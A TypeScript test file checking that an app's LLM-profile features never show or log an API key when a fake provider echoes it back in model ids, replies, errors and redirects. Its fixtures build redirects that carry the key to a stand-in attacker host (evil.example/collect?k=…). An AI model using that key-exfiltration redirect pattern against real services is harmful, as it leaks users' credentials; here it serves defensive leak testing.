// A server that echoes the key it was sent — from the Authorization or x-api-key header — back in every form a
// key can take: in model ids, in the reply text, in error bodies and in a redirect's Location. Nothing the window
// receives and no diagnostics line holds the key in any form. The scan is independent of the scrub (key-forms).
import { afterEach, describe, expect, it } from 'vitest';
import type { FakeLlmOptions, Fault } from '../../support/fake-providers/index.js';
import { startRequestShapedLlm, type FakeServer } from '../../support/fake-providers/index.js';
import { createIpcHarness, type IpcHarness, windowText } from '../../support/ipc-harness.js';
import { echoedForms, findKeyForms, keyForms } from '../../support/key-forms.js';
import { recordTestSecret } from '../../support/suite-diagnostics.js';

// Characters that change under URL-encoding, base64 and JSON, and a length past the hint threshold.
const KEY = 'sk-echo/Secret+Key=With~Odd&Chars-0123456789abcdef';
recordTestSecret(KEY);

type Mode = 'ok' | 'error' | 'redirect-host' | 'redirect-query';

/** What each family's server is called with, and the header it carries the key in. */
const FAMILIES = [
  { kind: 'openai', header: 'authorization', baseUrl: (url: string) => `${url}/v1`, model: 'gpt-4o-mini' },
  { kind: 'anthropic', header: 'x-api-key', baseUrl: (url: string) => url, model: 'claude-sonnet-4-5' },
] as const;

function keyFrom(headers: Record<string, string>, header: string): string {
  const value = headers[header] ?? '';
  return header === 'authorization' ? value.replace(/^Bearer /, '') : value;
}

function faultFor(mode: Mode, key: string): Fault | undefined {
  const echoes = Object.values(echoedForms(key));
  switch (mode) {
    case 'ok':
      return undefined;
    case 'error':
      return {
        type: 'status',
        status: 400,
        body: JSON.stringify({ error: { message: `Invalid request for key ${echoes.join(' / ')}`, type: 'bad' } }),
        headers: { 'content-type': 'application/json' },
      };
    case 'redirect-host':
      return {
        type: 'redirect',
        status: 302,
        location: `https://${encodeURIComponent(key).toLowerCase()}.evil.example/`,
      };
    case 'redirect-query':
      return { type: 'redirect', status: 307, location: `https://evil.example/collect?k=${encodeURIComponent(key)}` };
  }
}

async function echoServer(family: (typeof FAMILIES)[number], mode: () => Mode): Promise<FakeServer> {
  return startRequestShapedLlm((req) => {
    const key = keyFrom(req.headers, family.header);
    const echoes = Object.values(echoedForms(key));
    const options: FakeLlmOptions = {
      kind: family.kind,
      apiKey: key,
      models: [family.model, ...echoes.map((form) => `model-${form}`), ...echoes],
      reply: echoes.map((form, i) => `${i === 0 ? '' : ' | '}${form}`),
    };
    const fault = key === '' ? undefined : faultFor(mode(), key);
    return fault ? { ...options, fault } : options;
  });
}

let h: IpcHarness;
let server: FakeServer | undefined;
afterEach(async () => {
  await h?.dispose();
  await server?.close();
});

describe.each(FAMILIES)('a $kind server that echoes the key in $header', (family) => {
  it('reaches the window and the logs with the key in no form at all', async () => {
    let mode: Mode = 'ok';
    server = await echoServer(family, () => mode);
    h = await createIpcHarness();
    const w = h.connect();
    const profile = await w.client.profiles.create.mutate({
      name: `Echo ${family.kind}`,
      kind: family.kind,
      baseUrl: family.baseUrl(server.url),
      model: family.model,
      apiKey: KEY,
    });

    // Model ids: the one clean id survives; every id holding the key is dropped.
    const { models } = await w.client.profiles.models.mutate({ id: profile.id });
    expect(models.map((m) => m.id)).toContain(family.model);
    expect(models.length).toBeLessThan(5);

    // Reply text: the preview is scrubbed, the test still passes.
    const events: Array<{ type: string; result?: { ok: boolean; errorCode?: string | null } }> = [];
    const runTest = () =>
      new Promise<void>((resolve, reject) => {
        w.client.profiles.test.subscribe(
          { id: profile.id },
          { onData: (e) => events.push(e), onError: reject, onComplete: resolve },
        );
      });
    await runTest();
    expect(events.at(-1)?.result?.ok).toBe(true);

    // Error bodies and redirects that carry the key.
    for (const next of ['error', 'redirect-host', 'redirect-query'] as const) {
      mode = next;
      events.length = 0;
      await runTest();
      expect(events.at(-1)?.result?.ok).toBe(false);
      await w.client.profiles.models.mutate({ id: profile.id }).catch(() => undefined);
    }
    const redirected = windowText(w);
    expect(redirected).toContain('another address');
    expect(redirected).toContain('evil.example'); // the query-string redirect names its origin, which holds no key

    expect(server.requests.length).toBeGreaterThan(6);
    expect(server.requests.every((r) => keyFrom(r.headers, family.header) === KEY)).toBe(true); // it really echoed
    expect(findKeyForms(windowText(w), [KEY])).toEqual([]);
    const logged = h.t.logger.records.map((r) => JSON.stringify(r)).join('\n');
    expect(findKeyForms(logged, [KEY])).toEqual([]);
    // The scan itself finds what it looks for.
    expect(findKeyForms(Object.values(echoedForms(KEY)).join('\n'), [KEY])).toHaveLength(keyForms(KEY).length);
  });
});
